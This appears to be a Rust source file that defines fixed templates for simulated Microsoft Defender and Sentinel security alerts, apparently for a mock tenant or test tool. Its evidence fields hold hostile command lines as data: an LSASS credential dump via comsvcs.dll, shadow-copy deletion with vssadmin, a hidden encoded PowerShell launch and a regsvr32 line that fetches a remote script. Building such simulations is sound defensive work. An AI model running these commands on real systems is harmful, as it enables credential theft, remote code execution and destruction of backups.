//! What happens in the tenant: the fixed parts of alerts.

/// What happened: the fixed part of an alert.
#[derive(Debug)]
pub(crate) struct Story {
    pub(crate) title: &'static str,
    pub(crate) description: &'static str,
    pub(crate) category: &'static str,
    pub(crate) severity: &'static str,
    pub(crate) source: &'static str,
    pub(crate) provider: Provider,
    pub(crate) techniques: &'static [&'static str],
    pub(crate) threat: Option<(&'static str, &'static str)>,
    pub(crate) clues: &'static [Clue],
}

impl Story {
    /// One that somebody tells. It lives as long as the program, as all of them do.
    pub(crate) fn told(
        title: &str,
        description: &str,
        category: &'static str,
        severity: &'static str,
    ) -> &'static Self {
        Box::leak(Box::new(Self {
            title: title.to_owned().leak(),
            description: description.to_owned().leak(),
            category,
            severity,
            source: "CustomDetection",
            provider: Provider::Endpoint,
            techniques: &[],
            threat: None,
            clues: &[Clue::User],
        }))
    }
}

/// The product that raises an alert, as far as it is not Defender for Cloud.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Provider {
    Endpoint,
    Office,
    Identity,
    CloudApps,
    Sentinel,
}

impl Provider {
    /// What ids of its alerts begin with.
    pub(crate) fn prefix(self) -> &'static str {
        match self {
            Self::Endpoint => "da",
            Self::Office => "fa",
            Self::Identity => "aa",
            Self::CloudApps => "ca",
            Self::Sentinel => "sn",
        }
    }

    /// Graph's words: the service, what detected it there, and the product's name.
    pub(crate) fn words(self) -> (&'static str, &'static str, &'static str) {
        match self {
            Self::Endpoint => (
                "microsoftDefenderForEndpoint",
                "microsoftDefenderForEndpoint",
                "Microsoft Defender for Endpoint",
            ),
            Self::Office => (
                "microsoftDefenderForOffice365",
                "microsoftDefenderForOffice365",
                "Microsoft Defender for Office 365",
            ),
            Self::Identity => (
                "microsoftDefenderForIdentity",
                "microsoftDefenderForIdentity",
                "Microsoft Defender for Identity",
            ),
            Self::CloudApps => {
                ("microsoftDefenderForCloudApps", "cloudAppSecurity", "Microsoft Defender for Cloud Apps")
            }
            Self::Sentinel => ("microsoftSentinel", "scheduledAlerts", "Microsoft Sentinel"),
        }
    }
}

/// A piece of evidence of a story.
#[derive(Debug)]
pub(crate) enum Clue {
    User,
    /// Image, folder, command line, parent image.
    Process(&'static str, &'static str, &'static str, &'static str),
    /// Name, folder.
    File(&'static str, &'static str),
    Ip(&'static str),
    Url(&'static str),
    /// Hive, key, value name, value.
    Registry(&'static str, &'static str, &'static str, &'static str),
    /// A mail to the user: sender, subject.
    Mail(&'static str, &'static str),
    /// The user's mailbox.
    Mailbox,
    /// Name, number.
    App(&'static str, i64),
    /// Something of a kind that has no type of its own: Graph's name for it, and a field.
    Odd(&'static str, &'static str, &'static str),
}

const SYSTEM: &str = "C:\\Windows\\System32";
const TEMP: &str = "C:\\Users\\Public\\Downloads";

/// The stories, from the first foothold to the ransom note.
pub(crate) static STORIES: &[Story] = &[
    Story {
        title: "Suspicious PowerShell download from an Office document",
        description: "A document opened by the user started PowerShell, which fetched and ran code from an address that few organizations talk to.\n\nThis is how many intrusions begin. Check what the downloaded code did next, and whether other people received the same document.",
        category: "InitialAccess",
        severity: "High",
        source: "WindowsDefenderAtp",
        provider: Provider::Endpoint,
        techniques: &["T1566.001", "T1059.001"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process(
                "WINWORD.EXE",
                "C:\\Program Files\\Microsoft Office\\Office16",
                "WINWORD.EXE /n invoice-7731.docm",
                "explorer.exe",
            ),
            Clue::Process(
                "powershell.exe",
                SYSTEM,
                "powershell.exe -nop -w hidden -enc SQBFAFgA",
                "WINWORD.EXE",
            ),
            Clue::File("invoice-7731.docm", TEMP),
            Clue::Url("http://cdn.invoice-portal.example/a.ps1"),
            Clue::Ip("203.0.113.77"),
        ],
    },
    Story {
        title: "Credential dumping from the memory of LSASS",
        description: "A process read the memory of the local security authority, where the credentials of signed-in users are kept. Attackers do this to move on with other people's rights.\n\nReset the passwords of everybody who was signed in, and look for sign-ins from unusual places.",
        category: "CredentialAccess",
        severity: "High",
        source: "WindowsDefenderAtp",
        provider: Provider::Endpoint,
        techniques: &["T1003.001"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process(
                "rundll32.exe",
                SYSTEM,
                "rundll32.exe comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.dmp full",
                "cmd.exe",
            ),
            Clue::File("d.dmp", "C:\\ProgramData"),
        ],
    },
    Story {
        title: "Remote service created on another machine",
        description: "A service was created over the network with an administrative account, and started a program from a hidden share. Administrators do this rarely, attackers often.",
        category: "LateralMovement",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        provider: Provider::Endpoint,
        techniques: &["T1021.002", "T1569.002"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process("services.exe", SYSTEM, "services.exe", "wininit.exe"),
            Clue::Process("updsvc.exe", "C:\\Windows", "C:\\Windows\\updsvc.exe -k", "services.exe"),
            Clue::Ip("10.20.4.15"),
        ],
    },
    Story {
        title: "'Quakben' malware was prevented",
        description: "Malware was found and stopped before it ran. Find out how it came in; what was stopped here may run elsewhere.",
        category: "Malware",
        severity: "Informational",
        source: "WindowsDefenderAv",
        provider: Provider::Endpoint,
        techniques: &[],
        threat: Some(("Trojan:Win32/Quakben.A", "Quakben")),
        clues: &[Clue::File("setup_free.exe", TEMP)],
    },
    Story {
        title: "Run key added by a script host",
        description: "A script added a program to the list of those that start when the user signs in.",
        category: "Persistence",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        provider: Provider::Endpoint,
        techniques: &["T1547.001"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process("wscript.exe", SYSTEM, "wscript.exe \"C:\\Users\\Public\\it.js\"", "explorer.exe"),
            Clue::Registry(
                "HKEY_CURRENT_USER",
                "S-1-5-21-1\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "OneDrive Helper",
                "C:\\Users\\Public\\it.js",
            ),
        ],
    },
    Story {
        title: "Connection to a command and control address",
        description: "The machine talks at regular intervals to an address known to steer malware.",
        category: "CommandAndControl",
        severity: "Medium",
        source: "CustomTI",
        provider: Provider::Endpoint,
        techniques: &["T1071.001", "T1573"],
        threat: None,
        clues: &[
            Clue::Process("svchost.exe", TEMP, "svchost.exe -k netsvcs", "explorer.exe"),
            Clue::Ip("198.51.100.23"),
            Clue::Url("https://198.51.100.23/submit.php"),
        ],
    },
    Story {
        title: "Ransomware behavior: many files renamed with one new ending",
        description: "Hundreds of files were rewritten and renamed within minutes, and copies that Windows keeps were deleted.\n\nIsolate the machine now. Then find the first machine it happened on.",
        category: "Impact",
        severity: "High",
        source: "WindowsDefenderAtp",
        provider: Provider::Endpoint,
        techniques: &["T1486", "T1490"],
        threat: Some(("Ransom:Win32/Lokdon.B", "Lokdon")),
        clues: &[
            Clue::User,
            Clue::Process("vssadmin.exe", SYSTEM, "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
            Clue::Process("lok.exe", TEMP, "lok.exe --fast", "cmd.exe"),
            Clue::File("HOW_TO_RECOVER.txt", "C:\\Users\\Public\\Desktop"),
        ],
    },
    Story {
        title: "Port scan of the internal network",
        description: "The machine tried many ports of many neighbours within a short time.",
        category: "Discovery",
        severity: "Low",
        source: "WindowsDefenderAtp",
        provider: Provider::Endpoint,
        techniques: &["T1046"],
        threat: None,
        clues: &[Clue::Process("nmap", "/usr/bin", "nmap -sS 10.20.0.0/16", "bash"), Clue::Ip("10.20.4.1")],
    },
    Story {
        title: "Unusual volume of data sent to a file-sharing site",
        description: "Far more data than usual left the machine for a site where anybody can store files.",
        category: "Exfiltration",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        provider: Provider::Endpoint,
        techniques: &["T1567.002"],
        threat: None,
        clues: &[Clue::User, Clue::Url("https://files.example/upload"), Clue::File("q3.7z", TEMP)],
    },
    Story {
        title: "Suspicious activity of a signed system tool",
        description: "A tool that belongs to the system was used in a way it is seldom meant for.",
        category: "SuspiciousActivity",
        severity: "Low",
        source: "WindowsDefenderAtp",
        provider: Provider::Endpoint,
        techniques: &["T1218.011"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Process(
                "regsvr32.exe",
                SYSTEM,
                "regsvr32.exe /s /n /u /i:http://x.example scrobj.dll",
                "cmd.exe",
            ),
        ],
    },
];

/// What happens outside of Defender for Endpoint.
pub(crate) static ELSEWHERE: &[Story] = &[
    Story {
        title: "Mail with a document that fetches code, delivered to one mailbox",
        description: "A message with a macro document passed the filters and was opened. Its sender has never written to the organization before.",
        category: "InitialAccess",
        severity: "High",
        source: "microsoftDefenderForOffice365",
        provider: Provider::Office,
        techniques: &["T1566.001"],
        threat: None,
        clues: &[
            Clue::Mail("billing@invoice-portal.example", "Invoice 7731, last notice"),
            Clue::Mailbox,
            Clue::User,
            Clue::Url("http://cdn.invoice-portal.example/a.ps1"),
        ],
    },
    Story {
        title: "Sign-in from two distant places within minutes",
        description: "The account signed in from places that nobody can travel between in the time that passed.",
        category: "CredentialAccess",
        severity: "Medium",
        source: "microsoftDefenderForIdentity",
        provider: Provider::Identity,
        techniques: &["T1078"],
        threat: None,
        clues: &[
            Clue::User,
            Clue::Ip("198.51.100.200"),
            Clue::Odd("securityGroup", "displayName", "Domain Admins"),
        ],
    },
    Story {
        title: "Mass download from a cloud application",
        description: "One account fetched far more files than it usually does.",
        category: "Exfiltration",
        severity: "Low",
        source: "cloudAppSecurity",
        provider: Provider::CloudApps,
        techniques: &["T1530"],
        threat: None,
        clues: &[Clue::App("Contoso Files", 20_892), Clue::User, Clue::Ip("203.0.113.9")],
    },
    Story {
        title: "Rule of the customer: sign-ins of a leaver",
        description: "An account that should have been closed signed in.",
        category: "SuspiciousActivity",
        severity: "Medium",
        source: "scheduledAlerts",
        provider: Provider::Sentinel,
        techniques: &["T1078.004"],
        threat: None,
        clues: &[Clue::User, Clue::Odd("oauthApplication", "displayName", "Backup sync")],
    },
];
